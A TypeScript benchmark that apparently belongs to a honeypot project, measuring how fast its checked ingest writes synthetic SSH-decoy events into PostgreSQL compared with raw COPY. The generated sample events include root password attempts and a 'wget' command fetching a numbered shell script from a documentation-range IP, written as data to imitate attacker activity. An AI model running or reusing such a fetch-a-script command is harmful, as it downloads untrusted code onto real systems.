/**
 * Events into PostgreSQL: the ingest of the core, checked, idempotent and in order of position, against raw COPY of the same rows
 * into a table of the same columns, indexes and day partition, on the same embedded server, in turns.
 */
import { execFile } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { pipeline } from 'node:stream/promises'
import { Readable } from 'node:stream'
import { promisify } from 'node:util'
import type { SensorEvent } from '@shenlou/contract/event'
import { createCore } from '@shenlou/core/core'
import { ingestBatch, startIngest } from '@shenlou/core/ingest/ingest'
import { connect, openDatabase } from '@shenlou/core/store/database'
import { uuidv7 } from '@shenlou/link/uuid'
import { median, type Row } from './row.ts'

const batch = 1000
const batches = 40
const rounds = 3
const sensor = { id: uuidv7(), scope: 'group/machinery/park-1', role: 'decoys' as const }

/** What a busy SSH decoy says: logins, commands and terminal output, about 400 bytes of body each. */
function makeEvents(first: number, count: number): SensorEvent[] {
  const session = uuidv7()
  const base = {
    session,
    connection: session,
    decoy: 'erp-1',
    service: 'ssh',
    source: { ip: `203.0.113.${first % 250}`, port: 40_000 },
    destination: { ip: '10.1.2.3', port: 22 },
  }
  return Array.from({ length: count }, (_, index) => {
    const seq = first + index
    const kinds = [
      ['login.attempted', { method: 'password', user: 'root', password: `password ${seq} ${'p'.repeat(300)}`, outcome: 'refused' }],
      ['command.executed', { mode: 'shell', input: `wget http://203.0.113.9/${seq}.sh; ${'x'.repeat(300)}`, user: 'root', directory: '/root' }],
      ['terminal.data', { stream: 'output', data: Buffer.from(`${seq} `.repeat(40)).toString('base64') }],
    ] as const
    const [kind, body] = kinds[seq % kinds.length] as (typeof kinds)[number]
    return { id: uuidv7(), time: Date.now(), seq, ...base, kind, body }
  })
}

const escaped = (text: string): string => text.replace(/\\/g, '\\\\').replace(/\t/g, '\\t').replace(/\n/g, '\\n')
const copyLine = (event: SensorEvent, position: number, epoch: string): string =>
  [
    position,
    event.id,
    new Date(event.time).toISOString(),
    '\\N',
    new Date().toISOString(),
    sensor.id,
    epoch,
    event.seq,
    sensor.scope,
    event.kind,
    event.connection,
    event.session,
    event.decoy,
    event.service,
    event.source?.ip,
    event.source?.port,
    event.destination?.ip,
    event.destination?.port,
    '\\N',
    escaped(JSON.stringify(event.body)),
  ].join('\t')

export async function run(): Promise<Row[]> {
  // The embedded package has no psql; the system's is the fastest client of COPY where there is one.
  const psql = await promisify(execFile)('psql', ['--version']).then(
    () => true,
    () => false,
  )
  const dataDir = await mkdtemp(path.join(tmpdir(), 'shenlou-bench-'))
  const stop = new AbortController()
  const database = await openDatabase({ dataDir }, stop.signal)
  try {
    const core = await createCore({ sql: database.sql, dataDir, signal: stop.signal })
    await startIngest(core)
    const copying = connect(database.url, { max: 1 })
    const day = new Date().toISOString().slice(0, 10)
    const next = new Date(Date.parse(day) + 86_400_000).toISOString().slice(0, 10)
    let position = 0

    const fresh = async (): Promise<void> => {
      await database.sql`truncate event, sensor_range`
      await database.sql`drop table if exists raw_event`
      await database.sql`create table raw_event (like event including all) partition by range (time)`
      await database.sql.unsafe(`create table raw_event_today partition of raw_event for values from ('${day}') to ('${next}')`)
      await database.sql`checkpoint`
    }
    const rawCopy = async (): Promise<number> => {
      // Ready lines, as a file would hold them: only the server's work and the sending are measured.
      const chunks = Array.from({ length: batches }, (_, index) => {
        const epoch = randomUUID()
        return `${makeEvents(index * batch + 1, batch)
          .map((event) => copyLine(event, ++position, epoch))
          .join('\n')}\n`
      })
      if (psql) {
        const file = path.join(dataDir, 'rows.sql')
        await writeFile(file, chunks.map((chunk) => `copy raw_event from stdin;\n${chunk}\\.\n`).join(''))
        const began = performance.now()
        await promisify(execFile)('psql', [
          '-q',
          '-h',
          new URL(database.url).searchParams.get('host') as string,
          '-U',
          'shenlou',
          '-d',
          'postgres',
          '-v',
          'ON_ERROR_STOP=1',
          '-f',
          file,
        ])
        return (batch * batches * 1000) / (performance.now() - began)
      }
      const began = performance.now()
      for (const chunk of chunks) await pipeline(Readable.from([chunk]), await copying`copy raw_event from stdin`.writable())
      return (batch * batches * 1000) / (performance.now() - began)
    }
    const ingest = async (streams: number): Promise<{ rate: number; cpu: number; p99: number }> => {
      const epochs = Array.from({ length: streams }, () => randomUUID())
      // As they come from the door: parsed JSON.
      const work = epochs.map((epoch, stream) =>
        Array.from({ length: batches / streams }, (_, index) => ({
          sensor: { ...sensor, id: epoch },
          epoch,
          first: index * batch + 1,
          events: makeEvents(index * batch + 1, batch),
          stream,
        })),
      )
      const times: number[] = []
      const cpu = process.cpuUsage()
      const began = performance.now()
      await Promise.all(
        work.map(async (list) => {
          for (const each of list) {
            const started = performance.now()
            const { committed, rejected } = await ingestBatch(core, each)
            if (rejected > 0 || committed !== each.first + batch - 1) throw new Error(`committed ${committed} and rejected ${rejected} at ${each.first}`)
            times.push(performance.now() - started)
          }
        }),
      )
      const took = performance.now() - began
      const used = process.cpuUsage(cpu)
      times.sort((a, b) => a - b)
      return { rate: (batch * batches * 1000) / took, cpu: (used.user + used.system) / 1000 / took, p99: times[Math.floor(times.length * 0.99)] ?? 0 }
    }
    const figures = { copy: [] as number[], one: [] as number[], two: [] as number[], cpu: [] as number[], p99: [] as number[] }
    for (let round = 0; round <= rounds; round++) {
      await fresh()
      const copy = await rawCopy()
      const one = await ingest(1)
      const two = await ingest(2)
      // The first round warms server and code.
      if (round === 0) continue
      figures.copy.push(copy)
      figures.one.push(one.rate)
      figures.two.push(two.rate)
      figures.cpu.push(two.cpu)
      figures.p99.push(two.p99)
    }
    await copying.end()
    const copy = median(figures.copy)
    const against = { name: `raw COPY by ${psql ? 'psql' : 'postgres.js'}, ${batch} rows a commit`, value: copy }
    const row = (what: string, value: number, target?: number): Row => ({
      what,
      value,
      unit: 'events/s',
      against,
      ratio: value / copy,
      ...(target !== undefined && { target: `>= ${target} x`, met: value / copy >= target }),
    })
    return [
      row('ingest, checked and idempotent, one connection', median(figures.one)),
      {
        ...row('ingest, checked and idempotent, two connections', median(figures.two), 0.9),
        note: `Node at ${Math.round(median(figures.cpu) * 100)} % of a core; RSS ${Math.round(process.memoryUsage.rss() / 1_048_576)} MiB`,
      },
      { what: `ingest, a batch of ${batch}, p99`, value: median(figures.p99), unit: 'ms' },
    ]
  } finally {
    stop.abort()
    await database.close()
    await rm(dataDir, { recursive: true, force: true })
  }
}
